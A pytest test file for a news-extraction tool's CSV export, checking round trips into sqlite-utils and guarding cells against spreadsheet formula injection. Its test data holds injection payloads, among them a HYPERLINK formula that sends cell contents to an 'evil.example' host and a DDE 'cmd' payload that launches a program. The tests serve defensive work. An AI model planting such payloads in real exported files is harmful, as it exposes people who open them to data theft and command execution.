"""``--format csv``: one row per fact, straight into sqlite-utils."""
from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from newsextract.cli.render_csv import COLUMNS, write_csv

BIN = Path(sys.executable).parent

ARTICLES = [
    {"id": "harbour", "published": "2026-02-10",
     "text": "Mayor Lena Fischer said on Monday that Hamburg will open a new ferry line in March. "
             "\"We will not wait for Berlin, not this time,\" Fischer said. The Port Authority agreed."},
    {"id": "quiet", "text": "Rain fell all day."},
    {"id": "commas", "text": "Dr. Amal Haddad, the director, said, \"Costs rose, again,\" in Beirut, Lebanon."},
]


def feed(tmp_path: Path) -> Path:
    path = tmp_path / "feed.jsonl"
    lines = [json.dumps(a) for a in ARTICLES] + ["{not json"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _into_sqlite(path: Path, db: Path) -> sqlite3.Connection:
    """``newsextract parse PATH -f csv | sqlite-utils insert DB facts - --csv``, then the database."""
    sqlite_utils = str(BIN / "sqlite-utils") if (BIN / "sqlite-utils").exists() else shutil.which("sqlite-utils")
    if sqlite_utils is None:
        pytest.skip("sqlite-utils is not installed (pip install -e '.[test]')")
    pipe = subprocess.run(f"'{BIN / 'newsextract'}' parse '{path}' -f csv | '{sqlite_utils}' insert '{db}' facts - --csv",
                          shell=True, capture_output=True, text=True, executable="/bin/bash")
    assert pipe.returncode == 0, pipe.stderr
    con = sqlite3.connect(db)
    con.row_factory = sqlite3.Row
    return con


def test_csv_to_sqlite_utils(tmp_path):
    """Exactly the README's pipe: newsextract parse feed.jsonl -f csv | sqlite-utils insert facts.db facts - --csv"""
    path = feed(tmp_path)
    records = [json.loads(line) for line in subprocess.run(
        [str(BIN / "newsextract"), "parse", str(path), "-f", "jsonl"], capture_output=True, text=True).stdout.splitlines()]
    con = _into_sqlite(path, tmp_path / "facts.db")
    rows = [dict(r) for r in con.execute("select * from facts")]
    assert list(rows[0]) == COLUMNS
    # every record has its article (or error) row, and every fact is there once
    assert [r["article"] for r in rows if r["kind"] in ("article", "error")] == [r["id"] for r in records]
    for rec in records:
        mine = [r for r in rows if r["article"] == rec["id"]]
        for kind, key in [("person", "people"), ("place", "places"), ("organization", "organizations"),
                          ("date", "dates"), ("commitment", "commitments"), ("quote", "quotes")]:
            assert len([r for r in mine if r["kind"] == kind]) == len(rec.get(key) or []), (rec["id"], kind)
    fischer = con.execute("select * from facts where kind='person' and name='Lena Fischer'").fetchone()
    assert fischer is not None and int(fischer["mentions"]) >= 2 and "Mayor" in fischer["role"]
    text = next(a["text"] for a in ARTICLES if a["id"] == "harbour")
    assert text[int(fischer["start"]):int(fischer["end"])] == fischer["text"]
    dates = con.execute("select text, value from facts where kind='date' and article='harbour'").fetchall()
    assert ("Monday", "2026-02-09") in [tuple(d) for d in dates]
    error = con.execute("select * from facts where kind='error'").fetchone()
    assert error is not None and error["name"] == "bad_json"


def test_commas_quotes_and_newlines_survive_a_round_trip():
    rec = {"schema": 1, "id": "a,1", "source": "x.jsonl:1", "title": 'He said "no", then\nleft', "category": None,
           "published": None, "url": None, "words": 5,
           "people": [{"name": "Amal Haddad", "titles": ["Dr", "director"],
                       "mentions": [{"text": "Haddad", "start": 30, "end": 36},
                                    {"text": "Dr. Amal Haddad", "start": 0, "end": 15}]}],
           "places": [], "organizations": [], "dates": [],
           "commitments": [{"actor": "Amal Haddad", "modality": "will", "action": "cut", "object": "costs, again",
                            "when": None, "negated": True, "text": 'will not cut costs, "again"', "start": 40,
                            "end": 66}],
           "warnings": []}
    out = io.BytesIO()
    list(write_csv([rec], out))
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert [r["kind"] for r in rows] == ["article", "person", "commitment"]
    assert rows[0]["name"] == 'He said "no", then\nleft' and rows[0]["article"] == "a,1"
    assert rows[1]["role"] == "Dr; director" and rows[1]["start"] == "0" and rows[1]["mentions"] == "2"
    assert rows[2]["text"] == 'will not cut costs, "again"' and rows[2]["negated"] == "true"
    assert rows[2]["actor"] == "Amal Haddad" and rows[2]["modality"] == "will"


def test_header_only_when_there_is_nothing():
    out = io.BytesIO()
    list(write_csv([], out))
    assert out.getvalue().decode().strip() == ",".join(COLUMNS)


# --- formula injection (OWASP "CSV Injection") ------------------------------------------

FORMULA_ARTICLE = {
    "id": "=1+1", "title": "@SUM(A1:A9)",
    "text": "Mayor Ana Ruiz spoke in Leeds on Monday. \"=HYPERLINK(A1) was the formula in every one of those "
            "emails,\" Ruiz said. \"+44 is the code they called from each time,\" she added."}


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("   =1+1", "'   =1+1"),            # blanks first: some programs trim them, then run the rest
    ("\uff1d1+1", "'\uff1d1+1"),          # a full-width equals sign
    ("Ana Ruiz", "Ana Ruiz"),              # ordinary text is written as it is
    ("1 + 1 = 2", "1 + 1 = 2"),            # a formula character later in the text is harmless
    ("'tis the season", "'tis the season"),
    # after a separator: a spreadsheet splitting on semicolons (or commas) opens what follows as a cell
    ("Prices rose;=1+1", "Prices rose;'=1+1"),
    ("Ruiz, @SUM(A1:A9)", "Ruiz,' @SUM(A1:A9)"),
    ("a;;+44 20", "a;;'+44 20"),
    ("'=1+1", "''=1+1"),                  # a quote already there is doubled: the text comes back exactly
    ("it's; fine, 1 - 2", "it's; fine, 1 - 2"),
    ("", ""),
    (-1.5478, -1.5478),                    # numbers stay numbers: a western longitude, an offset
    (-3, -3),
    (None, None),
])
def test_cell_guards_only_what_a_spreadsheet_would_run(value, expected):
    from newsextract.cli.render_csv import cell

    assert cell(value) == expected


@pytest.mark.parametrize("text", [
    "Prices rose;=1+1", "Ruiz, @SUM(A1:A9)", "'=1+1", "x;''+1", "''tis", ";=", ",", "; ;-", "a;\t=1",
    "=HYPERLINK(A1)", "plain text; nothing to guard, at all", "'", "'',;'",
])
def test_text_of_gives_back_exactly_the_text(text):
    from newsextract.cli.render_csv import cell, text_of

    assert text_of(cell(text)) == text


def test_formula_text_opens_as_text_and_round_trips_through_sqlite_utils(tmp_path):
    """A quotation, an id and a title that start with a formula character reach the
    database with one leading quote (so a spreadsheet shows them as text); removing it
    gives the exact extracted text; coordinates and offsets are untouched."""
    path = tmp_path / "feed.jsonl"
    path.write_text(json.dumps(FORMULA_ARTICLE) + "\n", encoding="utf-8")
    record = json.loads(subprocess.run([str(BIN / "newsextract"), "parse", str(path), "-f", "jsonl"],
                                       capture_output=True, text=True).stdout)
    con = _into_sqlite(path, tmp_path / "facts.db")
    rows = [dict(r) for r in con.execute("select * from facts")]
    for row in rows:
        for column, value in row.items():
            if isinstance(value, str) and value:
                assert value[0] not in "=+-@\t\r", (column, value)
    assert {r["article"] for r in rows} == {"'=1+1"}
    article = next(r for r in rows if r["kind"] == "article")
    assert article["name"] == "'@SUM(A1:A9)"
    quotes = [r["text"] for r in rows if r["kind"] == "quote"]
    assert [q["text"] for q in record["quotes"]] == [q[1:] if q[:1] == "'" else q for q in quotes]
    assert any(q.startswith("'=HYPERLINK(A1)") for q in quotes)   # the quotation was found and guarded
    for r in rows:
        if r["kind"] == "quote":
            assert FORMULA_ARTICLE["text"][int(r["start"]):int(r["end"])] == r["text"][1:]
    leeds = next(r for r in rows if r["kind"] == "place" and r["name"] == "Leeds")
    assert float(leeds["lon"]) < 0 and str(leeds["lon"]).startswith("-")   # a number, not "'-1.5..."


SEMICOLON_ARTICLE = {
    "id": "semi", "title": "Rates;=1+1 and more",
    "text": "Ana Ruiz spoke in Leeds on Monday. \"Prices rose;=HYPERLINK(A1) was what every one of those "
            "emails said,\" Ruiz said. \"They came from the same three addresses, +44 each time,\" she added."}


def test_a_semicolon_splitting_spreadsheet_opens_no_formula(tmp_path):
    """Where the comma is the decimal mark, spreadsheets split a CSV file on semicolons and
    ignore the double quotes inside a field: no cell they make starts a formula, and the
    database (sqlite-utils, splitting on commas) holds text that ``text_of`` turns back into
    exactly the extracted text."""
    from newsextract.cli.render_csv import text_of

    path = tmp_path / "feed.jsonl"
    path.write_text(json.dumps(SEMICOLON_ARTICLE) + "\n", encoding="utf-8")
    data = subprocess.run([str(BIN / "newsextract"), "parse", str(path), "-f", "csv"],
                          capture_output=True, text=True).stdout
    for separator in (";", ","):
        for row in csv.reader(io.StringIO(data), delimiter=separator):
            for value in row:
                try:
                    float(value)
                    continue  # a number (a western longitude) is a number to the spreadsheet too
                except ValueError:
                    pass
                assert value.lstrip()[:1] not in ("=", "+", "-", "@"), (separator, value)
    record = json.loads(subprocess.run([str(BIN / "newsextract"), "parse", str(path), "-f", "jsonl"],
                                       capture_output=True, text=True).stdout)
    rows = [dict(r) for r in _into_sqlite(path, tmp_path / "facts.db").execute("select * from facts")]
    article = next(r for r in rows if r["kind"] == "article")
    assert article["name"] == "Rates;'=1+1 and more" and text_of(article["name"]) == SEMICOLON_ARTICLE["title"]
    quotes = [r for r in rows if r["kind"] == "quote"]
    assert [text_of(q["text"]) for q in quotes] == [q["text"] for q in record["quotes"]]
    assert any(";'=HYPERLINK(A1)" in q["text"] for q in quotes)  # the quotation was found and guarded
    for q in quotes:
        assert SEMICOLON_ARTICLE["text"][int(q["start"]):int(q["end"])] == text_of(q["text"])
